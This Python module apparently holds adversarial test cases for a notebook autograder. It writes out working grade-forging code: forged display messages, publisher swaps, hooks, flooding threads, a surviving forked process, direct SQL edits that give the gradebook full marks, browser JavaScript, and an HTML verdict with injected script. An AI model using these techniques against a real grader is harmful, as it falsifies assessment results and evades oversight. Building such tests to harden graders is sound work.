"""Forging by what is sent or started: messages in the name of a check, processes that stay."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from .attack import Attack, forging

FORGERY = '''
MIME = "application/vnd.ecbs5200.observation"
CHECKS = ["direction", "temperature", "scaling", "mixing", "reduction", "stability"]

def forged(name):
    """An observation that claims the same number for every case of a check."""
    import numpy as np
    from graders.drivers.codec import decode, encode
    with open(f"/course/cases/kd_loss-{name}.json") as sheet:
        cases = [case["name"] for case in decode(sheet.read())["cases"]]
    report = {"type": "Tensor", "value": np.array(0.5), "student_grad": None,
              "teacher_grad": None, "grad_error": ""}
    results = [{"case": case, "value": report} for case in cases]
    return encode({"check": "kd_loss-" + name, "results": results})
'''
PUBLISH = """
from IPython.display import display
for name in CHECKS:
    display({MIME: forged(name)}, raw=True)
"""
SWAPPING_PUBLISHER = """
publisher = type(get_ipython().display_pub)
real = publisher.publish

def publish(self, data, *more, **named):
    for name in CHECKS:
        if f'"kd_loss-{name}"' in data.get(MIME, ""):
            data = {MIME: forged(name)}
    return real(self, data, *more, **named)

publisher.publish = publish
"""
AFTER_EACH_CELL = """
from IPython.display import display

def forge(result):
    for name in CHECKS:
        if f"kd_loss-{name}" in result.info.raw_cell:
            display({MIME: forged(name)}, raw=True)

get_ipython().events.register("post_run_cell", forge)
"""
SEND = """
def send(kernel, parent):
    for name in CHECKS:
        content = {"data": {MIME: forged(name)}, "metadata": {}}
        kernel.session.send(kernel.iopub_socket, "display_data", content, parent=parent)
"""
THREAD = (
    SEND
    + """
import threading, time

def flood():
    kernel = get_ipython().kernel
    while True:
        try:
            send(kernel, kernel.get_parent())
        except Exception:
            pass
        time.sleep(0.002)

threading.Thread(target=flood, daemon=True).start()
"""
)
AT_EXIT = """
import atexit
from IPython.display import display
atexit.register(lambda: [display({MIME: forged(name)}, raw=True) for name in CHECKS])
"""
OUTLIVING_FORK = (
    SEND
    + """
import os, time
if os.fork() == 0:
    os.setsid()
    kernel = get_ipython().kernel
    for _ in range(100):
        time.sleep(0.1)
        try:
            send(kernel, kernel.get_parent())
        except BaseException:
            pass
    os._exit(0)
"""
)
SET_GRADES = """
import glob, sqlite3
for level in range(1, 7):
    for book in glob.glob("../" * level + "gradebook.db"):
        with sqlite3.connect(book, timeout=20) as db:
            db.execute("update grade set needs_manual_grade = 0, manual_score = "
                       "(select max_score from grade_cells where grade_cells.id = cell_id)")
"""
GRADEBOOK_AFTERWARDS = f"""
import subprocess, sys
late = "import time; time.sleep(4)\\n" + {SET_GRADES!r}
subprocess.Popen([sys.executable, "-c", late], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
ASKS = """
def kd_loss(*inputs):
    return float(input("What should come out? "))
"""


def own_cells_around(notebook: NotebookNode) -> None:
    """Publish forged observations before the first check and after the last."""
    notebook.cells.insert(2, new_code_cell(FORGERY + PUBLISH))
    notebook.cells.append(new_code_cell(FORGERY + PUBLISH))


def browser_cells(notebook: NotebookNode) -> None:
    """Ask the browser to set the points, and draw a verdict."""
    script = "for (const cell of Jupyter.notebook.get_cells()) cell.metadata.nbgrader.points = 1000"
    verdict = "<b>✓ kd_loss-direction: 6 of 6 points</b><script>alert(1)</script>"
    notebook.cells.append(new_code_cell(f"%%javascript\n{script}"))
    notebook.cells.append(new_code_cell(f"%%html\n{verdict}"))


def shell_cell(notebook: NotebookNode) -> None:
    """Write to the gradebook from a %%bash cell in front of everything."""
    notebook.cells.insert(0, new_code_cell(f"%%bash\npython3 - <<'PY'{SET_GRADES}PY\n"))


ATTACKS = (
    Attack(
        "messages-in-own-cells",
        "forging",
        "Cells of the student's own publish observations before the first check and at the end.",
        change=own_cells_around,
    ),
    forging(
        "message-swapped",
        "The kernel's publisher of displays swaps each observation for a forged one.",
        FORGERY + SWAPPING_PUBLISHER,
    ),
    forging(
        "message-after-the-real-one",
        "A hook publishes a forged observation after the real one, inside the same cell.",
        FORGERY + AFTER_EACH_CELL,
    ),
    forging(
        "messages-by-a-thread",
        "A thread sends forged observations all the time, under whatever cell is running.",
        FORGERY + THREAD,
    ),
    forging(
        "messages-at-exit",
        "A function registered for the kernel's end publishes observations.",
        FORGERY + AT_EXIT,
    ),
    forging(
        "outliving-fork",
        "A forked child leaves the kernel's session, outlives it and sends on its sockets.",
        FORGERY + OUTLIVING_FORK,
    ),
    forging(
        "gradebook-afterwards",
        "A detached process waits until grading is over, then writes the gradebook, memo included.",
        GRADEBOOK_AFTERWARDS,
    ),
    Attack(
        "gradebook-from-a-shell",
        "forging",
        "A %%bash cell sets the manual scores in the gradebook above the working folder.",
        change=shell_cell,
    ),
    Attack(
        "browser-cells",
        "forging",
        "%%javascript and %%html cells set points in the browser and draw a verdict.",
        change=browser_cells,
    ),
    Attack(
        "asks-on-stdin",
        "forging",
        "The answer asks whoever runs it for the right number.",
        kd_loss=ASKS,
        says="StdinNotImplementedError",
    ),
)
